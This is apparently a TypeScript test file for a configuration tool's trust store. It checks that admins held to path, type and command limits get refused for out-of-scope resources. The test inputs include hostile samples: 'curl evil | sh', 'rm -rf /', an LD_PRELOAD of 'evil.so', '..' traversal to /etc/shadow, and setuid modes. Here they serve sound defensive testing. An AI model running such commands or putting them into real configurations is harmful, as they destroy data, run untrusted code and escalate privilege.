import { describe, expect, it } from 'vitest'
import { generateSigningKey } from '../../src/envelope/index.js'
import { TRUST_POLICY_NAME, validatePolicyObject, type AdminLimits, type Policy } from '../../src/policy/index.js'
import { OutOfScopeError, TrustStore, grantExcesses, pathWithin, type Excess } from '../../src/trust/index.js'
import { configPolicy, policy, trustPolicy } from '../helpers/envelope.js'

describe('pathWithin', () => {
  it.each([
    ['/', '/etc/passwd', true],
    ['/var/www/', '/var/www/site/index.html', true],
    ['/var/www/', '/var/www', false],
    ['/var/www/', '/var/wwwx/a', false],
    ['/var/www', '/var/www', true],
    ['/var/www', '/var/www/a', true],
    ['/var/www', '/var/wwwx', false],
    ['/etc/nginx/nginx.conf', '/etc/nginx/nginx.conf', true],
    ['/etc/nginx/nginx.conf', '/etc/nginx/nginx.conf/x', true],
    ['/etc/nginx/nginx.conf', '/etc/nginx/nginx.conf2', false]
  ])('prefix %j covers %j: %s', (prefix, path, expected) => {
    expect(pathWithin(prefix, path)).toBe(expected)
  })
})

const web: AdminLimits = {
  types: ['file', 'directory', 'config', 'symlink', 'exec'],
  paths: ['/var/www/', '/etc/nginx/'],
  exec: { commands: [['systemctl', 'reload', 'nginx'], 'nginx -t'], run_as: 'www-data' }
}
const filesOnly: AdminLimits = { types: ['file', 'directory', 'config'] }
const anyCommandAsNobody: AdminLimits = { exec: { run_as: 'nobody' } }

type Row = [what: string, limits: AdminLimits, resource: Record<string, unknown>, expected: Array<Pick<Excess, 'rule'> & { message: RegExp }>]

const reload = { id: 'reload', type: 'exec', command: ['systemctl', 'reload', 'nginx'], run_as: 'www-data' }
const rows: Row[] = [
  // types
  ['an exec, when types leave it out', filesOnly, { id: 'x', type: 'exec', command: 'true' }, [{ rule: 'types', message: /^type exec is not allowed$/ }]],
  ['a symlink, when types leave it out', filesOnly, { id: 'x', type: 'symlink', path: '/a', target: '/b' }, [{ rule: 'types', message: /type symlink/ }]],
  ['a file, when types list it', filesOnly, { id: 'x', type: 'file', path: '/etc/passwd', content: '' }, []],
  ['anything, when types is empty', { types: [] }, { id: 'x', type: 'directory', path: '/srv' }, [{ rule: 'types', message: /type directory/ }]],
  // paths
  ['a file under a prefix', web, { id: 'x', type: 'file', path: '/var/www/site/index.html', content: '' }, []],
  ['a file outside every prefix', web, { id: 'x', type: 'file', path: '/etc/passwd', content: '' }, [{ rule: 'paths', message: /^path \/etc\/passwd is outside the allowed paths$/ }]],
  ['the prefix directory itself, when the prefix ends in /', web, { id: 'x', type: 'directory', path: '/var/www' }, [{ rule: 'paths', message: /outside/ }]],
  ['a path spelled with // and . inside a prefix', web, { id: 'x', type: 'directory', path: '/var/www//a/./b/' }, []],
  ['a path with ..', web, { id: 'x', type: 'file', path: '/var/www/../../etc/shadow', content: '' }, [{ rule: 'paths', message: /has a "\.\." segment/ }]],
  ['a config outside', web, { id: 'x', type: 'config', path: '/etc/app.json', format: 'json', data: {} }, [{ rule: 'paths', message: /\/etc\/app\.json is outside/ }]],
  ['an absent file outside (removing is power too)', web, { id: 'x', type: 'file', path: '/etc/sudoers', ensure: 'absent' }, [{ rule: 'paths', message: /outside/ }]],
  ['a symlink inside pointing inside', web, { id: 'x', type: 'symlink', path: '/var/www/current', target: 'releases/7' }, []],
  ['a symlink inside pointing outside (absolute)', web, { id: 'x', type: 'symlink', path: '/var/www/etc', target: '/etc' }, [{ rule: 'paths', message: /^symlink target "\/etc" is outside the allowed paths$/ }]],
  ['a symlink inside pointing outside (relative)', web, { id: 'x', type: 'symlink', path: '/var/www/x', target: 'sub/../../../etc/shadow' }, [{ rule: 'paths', message: /target .* has a "\.\." segment/ }]],
  ['a relative symlink target resolved against the link\'s directory, inside', web, { id: 'x', type: 'symlink', path: '/etc/nginx/sites-enabled/app', target: 'app.conf' }, []],
  ['a relative symlink target resolved against the link\'s directory, outside', { paths: ['/var/www/site', '/var/www/index.html'] }, { id: 'x', type: 'symlink', path: '/var/www/index.html', target: 'real.html' }, [
    { rule: 'paths', message: /^symlink target "real\.html" \(\/var\/www\/real\.html\) is outside the allowed paths$/ }
  ]],
  ['a symlink outside pointing inside', web, { id: 'x', type: 'symlink', path: '/usr/bin/site', target: '/var/www/site' }, [{ rule: 'paths', message: /path \/usr\/bin\/site/ }]],
  ['a setuid file inside', web, { id: 'x', type: 'file', path: '/var/www/sh', content: '', mode: '4755' }, [{ rule: 'paths', message: /mode 4755 sets the setuid or setgid bit/ }]],
  ['a setgid config inside', web, { id: 'x', type: 'config', path: '/var/www/a.json', format: 'json', data: {}, mode: '2644' }, [{ rule: 'paths', message: /setgid/ }]],
  ['a setgid directory inside (group inheritance, not a way out)', web, { id: 'x', type: 'directory', path: '/var/www/shared', mode: '2775' }, []],
  // an exists-only directory above a prefix: making sure a parent is there grants nothing
  ['an exists-only ancestor of a prefix (/etc for /etc/nginx/)', web, { id: 'x', type: 'directory', path: '/etc' }, []],
  ['an exists-only ancestor of a prefix, spelled with a trailing /', web, { id: 'x', type: 'directory', path: '/var/' }, []],
  ['an exists-only ancestor of a prefix with no trailing /', { paths: ['/etc/myapp'] }, { id: 'x', type: 'directory', path: '/etc', requires: ['first'] }, []],
  ['an ancestor with a mode', web, { id: 'x', type: 'directory', path: '/etc', mode: '0777' }, [{ rule: 'paths', message: /^path \/etc is outside the allowed paths$/ }]],
  ['an ancestor with an owner', web, { id: 'x', type: 'directory', path: '/etc', owner: 'www-data' }, [{ rule: 'paths', message: /outside/ }]],
  ['an ancestor with a group', web, { id: 'x', type: 'directory', path: '/var', group: 'www-data' }, [{ rule: 'paths', message: /outside/ }]],
  ['an ancestor to remove', web, { id: 'x', type: 'directory', path: '/etc', ensure: 'absent' }, [{ rule: 'paths', message: /outside/ }]],
  ['a file at an ancestor\'s path', web, { id: 'x', type: 'file', path: '/etc', content: '' }, [{ rule: 'paths', message: /outside/ }]],
  ['a symlink at an ancestor\'s path', web, { id: 'x', type: 'symlink', path: '/var', target: '/var/www/site' }, [{ rule: 'paths', message: /^path \/var is outside/ }]],
  ['an exists-only directory beside a prefix, not above it', web, { id: 'x', type: 'directory', path: '/etc/sudoers.d' }, [{ rule: 'paths', message: /outside/ }]],
  ['an exists-only directory whose name only starts like an ancestor', web, { id: 'x', type: 'directory', path: '/var/ww' }, [{ rule: 'paths', message: /outside/ }]],
  ['an exists-only ancestor with ..', web, { id: 'x', type: 'directory', path: '/var/www/../../etc' }, [{ rule: 'paths', message: /has a "\.\." segment/ }]],
  ['an exec under path limits (paths bound managed paths only)', { paths: ['/var/www/'] }, { id: 'x', type: 'exec', command: 'true', cwd: '/tmp' }, []],
  // exec
  ['an allowed argv, as the required user', web, reload, []],
  ['an allowed command string, as the required user', web, { id: 'x', type: 'exec', command: 'nginx -t', run_as: 'www-data' }, []],
  ['a command not on the list', web, { ...reload, command: ['systemctl', 'stop', 'nginx'] }, [{ rule: 'exec.commands', message: /^command \["systemctl","stop","nginx"\] is not an allowed command$/ }]],
  ['an allowed argv written as a string (compared exactly)', web, { ...reload, command: 'systemctl reload nginx' }, [{ rule: 'exec.commands', message: /command "systemctl reload nginx"/ }]],
  ['an unless guard not on the list', web, { ...reload, unless: 'rm -rf /' }, [{ rule: 'exec.commands', message: /^unless "rm -rf \/" is not an allowed command$/ }]],
  ['an onlyif guard on the list', web, { ...reload, onlyif: 'nginx -t' }, []],
  ['env with a list of commands', web, { ...reload, env: { LD_PRELOAD: '/var/www/evil.so' } }, [{ rule: 'exec.commands', message: /env is not allowed/ }]],
  ['no run_as, when one is required', web, { ...reload, run_as: undefined }, [{ rule: 'exec.run_as', message: /runs as the agent's user; it must declare run_as: www-data/ }]],
  ['another run_as', web, { ...reload, run_as: 'root' }, [{ rule: 'exec.run_as', message: /runs as "root"; it must declare run_as: www-data/ }]],
  ['any command, as the required user', anyCommandAsNobody, { id: 'x', type: 'exec', command: 'anything at all', env: { A: 'b' }, run_as: 'nobody' }, []],
  ['everything wrong at once', web, { id: 'x', type: 'exec', command: 'sh', unless: 'true', env: { A: 'b' } }, [
    { rule: 'exec.commands', message: /command "sh"/ }, { rule: 'exec.commands', message: /unless "true"/ }, { rule: 'exec.commands', message: /env/ }, { rule: 'exec.run_as', message: /must declare/ }
  ]]
]

describe('grantExcesses', () => {
  it.each(rows)('%s', (_, limits, resource, expected) => {
    // Validation refuses ".." in a managed path (issue 15); the grant check must still hold for a policy that skipped it.
    const climbs = 'path' in resource && typeof resource.path === 'string' && resource.path.includes('..')
    const p = configPolicy('web/site', [{ id: 'first', type: 'directory', path: '/var/www/site' }, climbs ? { ...resource, path: '/var/www/x' } : resource])
    if (climbs && p.kind === 'policy') Object.assign(p.resources[1] as object, { path: resource.path })
    const got = grantExcesses(p, limits).filter((e) => e.index === 1)
    expect(got).toHaveLength(expected.length)
    got.forEach((e, i) => {
      expect(e).toMatchObject({ index: 1, id: resource.id, rule: expected[i]!.rule })
      expect(e.message).toMatch(expected[i]!.message)
    })
  })

  it('passes anything with no limits, and policies without resources', () => {
    expect(grantExcesses(configPolicy('web/site', [{ id: 'x', type: 'exec', command: 'rm -rf /' }]), {})).toEqual([])
    expect(grantExcesses(policy({ kind: 'retired', name: 'web/site' }), filesOnly)).toEqual([])
  })
})

describe('TrustStore.authorizePolicy', () => {
  const root = generateSigningKey().id
  const webAdmin = generateSigningKey().id
  const ops = generateSigningKey().id
  const store = new TrustStore([root], trustPolicy([
    { name: 'web team', key: webAdmin, scopes: ['web/'], limits: { types: ['file', 'directory', 'config'], paths: ['/var/www/'] } },
    { key: ops, scopes: ['*'] }
  ]))
  const restart = { id: 'reload', type: 'exec', command: 'systemctl restart nginx' }

  it('refuses a limited admin\'s exec as out of scope, naming the resource, the key and the rule', () => {
    const p = configPolicy('web/site', [{ id: 'site', type: 'directory', path: '/var/www/site' }, { id: 'conf', type: 'file', path: '/var/www/site/x', content: '' }, restart])
    expect(() => store.authorizePolicy(webAdmin, p)).toThrow(OutOfScopeError)
    expect(() => store.authorizePolicy(webAdmin, p)).toThrow(
      `web/site goes beyond its signer's limits: resources[2] (id "reload"): type exec is not allowed for key ${webAdmin} (web team, scopes "web/"; limits types: file, directory, config)`
    )
  })

  it('names every excess, up to five, and counts the rest', () => {
    const files = Array.from({ length: 7 }, (_, i) => ({ id: `f${i}`, type: 'file', path: `/etc/f${i}`, content: '' }))
    const err = (() => { try { store.authorizePolicy(webAdmin, configPolicy('web/many', files)) } catch (e) { return e as Error } })()
    expect(err?.message.match(/is outside the allowed paths/g)).toHaveLength(5)
    expect(err?.message).toMatch(/limits paths: \/var\/www\/\); and 2 more$/)
  })

  it('puts no limit on roots, unlimited admins, or the trust policy (root-only anyway)', () => {
    const p = configPolicy('web/site', [restart])
    expect(() => store.authorizePolicy(root, p)).not.toThrow()
    expect(() => store.authorizePolicy(ops, p)).not.toThrow()
    expect(() => store.authorizePolicy(root, trustPolicy([]))).not.toThrow()
    expect(TRUST_POLICY_NAME).toBe('grapevine/trust')
  })

  it('checks name and limits together for held envelopes (authorizeAll)', () => {
    expect(() => store.authorizeAll(webAdmin, configPolicy('app/x'))).toThrow(/may publish "web\/", not "app\/x"/)
    expect(() => store.authorizeAll(webAdmin, configPolicy('web/x', [restart]))).toThrow(/type exec is not allowed/)
    expect(() => store.authorizeAll(webAdmin, configPolicy('web/x', [{ id: 'd', type: 'directory', path: '/var/www/x' }]))).not.toThrow()
  })
})

describe('the examples in policies/', () => {
  it('web.yaml and app.yaml stay within the limits trust.yaml gives their teams', async () => {
    const { loadPolicyFile } = await import('../../src/policy/index.js')
    const { join } = await import('node:path')
    const { REPO_ROOT } = await import('../helpers/cli.js')
    const trust = await loadPolicyFile(join(REPO_ROOT, 'policies', 'trust.yaml'))
    if (trust.kind !== 'trust') throw new Error('trust.yaml is not a trust policy')
    for (const [file, team] of [['web.yaml', 'web team'], ['app.yaml', 'app team']]) {
      const limits = trust.admins.find((a) => a.name === team)?.limits
      expect(limits, team).toBeDefined()
      expect(grantExcesses(await loadPolicyFile(join(REPO_ROOT, 'policies', file as string)), limits as AdminLimits)).toEqual([])
    }
    // A web team exec that is not on its list is refused.
    const web = trust.admins.find((a) => a.name === 'web team')?.limits as AdminLimits
    expect(grantExcesses(configPolicy('web/x', [{ id: 'x', type: 'exec', command: 'curl evil | sh' }]), web).map((e) => e.rule)).toEqual(['exec.commands'])
    // Creating /etc needs no grant of /etc: the web team may not write elsewhere in it, nor the app team.
    const app = trust.admins.find((a) => a.name === 'app team')?.limits as AdminLimits
    const sudoers = configPolicy('web/x', [{ id: 'x', type: 'directory', path: '/etc/sudoers.d' }])
    expect(grantExcesses(sudoers, web).map((e) => e.rule)).toEqual(['paths'])
    expect(grantExcesses(sudoers, app).map((e) => e.rule)).toEqual(['paths'])
  })
})

describe('system resources against an admin held to paths', () => {
  const withOne = (r: Record<string, unknown>): Policy => validatePolicyObject({ name: 'web/site', resources: [r] })
  it('refuses a package, service, user or group unless limits.types names its type', () => {
    for (const r of [
      { id: 'p', type: 'package', name: 'nginx' },
      { id: 's', type: 'service', name: 'nginx', enable: true },
      { id: 'u', type: 'user', name: 'app', uid: 0 },
      { id: 'g', type: 'group', name: 'ops' }
    ]) {
      const excess = grantExcesses(withOne(r), { paths: ['/etc/nginx/'] })
      expect(excess.map((e) => e.rule)).toEqual(['types'])
      expect(excess[0]?.message).toMatch(new RegExp(`limits.types lists "${r.type}"`))
      expect(grantExcesses(withOne(r), { paths: ['/etc/nginx/'], types: [r.type as 'package'] })).toEqual([])
      // An admin with no limits at all may.
      expect(grantExcesses(withOne(r), {})).toEqual([])
    }
  })
})
